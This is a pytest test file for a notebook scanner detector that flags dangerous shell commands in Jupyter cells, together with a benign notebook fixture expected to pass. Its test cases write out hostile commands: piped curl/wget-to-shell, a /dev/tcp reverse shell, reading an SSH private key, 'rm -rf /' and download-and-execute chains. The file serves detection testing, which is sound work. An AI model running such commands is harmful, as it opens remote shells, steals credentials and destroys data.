"""NTB001: what the cells of a notebook hand to a shell."""

from __future__ import annotations

from pathlib import Path

import pytest

from modelkeep.core import Severity, Verdict
from modelkeep.scan.notebook_commands import DETECTOR
from notebook_samples import code, html, markdown, notebook
from samples import found_by, scan_bytes


@pytest.mark.parametrize(
    "cell",
    [
        "!curl https://x/y.sh | bash",
        "!wget -qO- https://x/y | sudo sh",
        "%%bash\ncd /tmp\nbash -i >& /dev/tcp/192.0.2.1/4444 0>&1",
        "%system curl https://x/y | sh",
        "out = !echo aGk= | base64 -d | sh",
        "!cat ~/.ssh/id_rsa",
        "!rm -rf /",
        "!pip install x --index-url http://192.0.2.1/simple",
        "if True:\n    !curl https://x/y -o /tmp/y && chmod +x /tmp/y && /tmp/y",
    ],
)
def test_dangerous_commands_fail(tmp_path: Path, cell: str) -> None:
    raw = notebook(markdown("# Demo"), code(cell))
    (finding, *_) = found_by(DETECTOR, raw, name="demo.ipynb")
    assert finding.severity >= Severity.HIGH
    assert finding.evidence["cell"] == "1"
    assert scan_bytes(tmp_path, raw, name="demo.ipynb").verdict is Verdict.FAIL


PLOT = html("<div><style>td {}</style><table border='1'><tr><td>1</td></tr></table></div>")
ORDINARY = notebook(
    markdown("# Fine-tune\n\nRead <a href='https://x'>this</a> first."),
    code("!pip install -q transformers datasets==2.0 'accelerate>=0.20'"),
    code("%pip install git+https://github.com/huggingface/transformers"),
    code("!pip install torch --index-url https://download.pytorch.org/whl/cu118"),
    code("!nvidia-smi"),
    code("%matplotlib inline\n%load_ext autoreload\n%autoreload 2"),
    code("!wget https://x/data.zip\n!unzip -q data.zip\n!rm -rf ./tmp data.zip"),
    code("%%time\nimport torch\nmodel.eval()"),
    code("!git clone https://github.com/x/y && cd y && pip install -e ."),
    code("import os, requests\nos.environ['A'] = '1'\nr = requests.post(url, json={'x': 1})"),
    code("df.head()", PLOT),
    code(
        "import subprocess, sys\nsubprocess.run([sys.executable, '-m', 'pip', 'install', 'x'])"
    ),
    code("def broken(:\n"),
    code("%%html\n<b>x</b>"),
)


def test_ordinary_notebooks_pass(tmp_path: Path) -> None:
    result = scan_bytes(tmp_path, ORDINARY, name="demo.ipynb")
    assert (result.verdict, result.reason) == (Verdict.PASS, "")
    assert {f.severity for f in result.findings} <= {
        Severity.INFO,
        Severity.LOW,
        Severity.MEDIUM,
    }


def test_code_of_cells_goes_through_the_rules_for_python(tmp_path: Path) -> None:
    raw = notebook(code("import os"), code("print(1"), code("os.system('true')"))
    result = scan_bytes(tmp_path, raw, name="demo.ipynb")
    assert result.verdict is Verdict.FAIL
    assert [f.location.member for f in result.findings] == ["cells"]
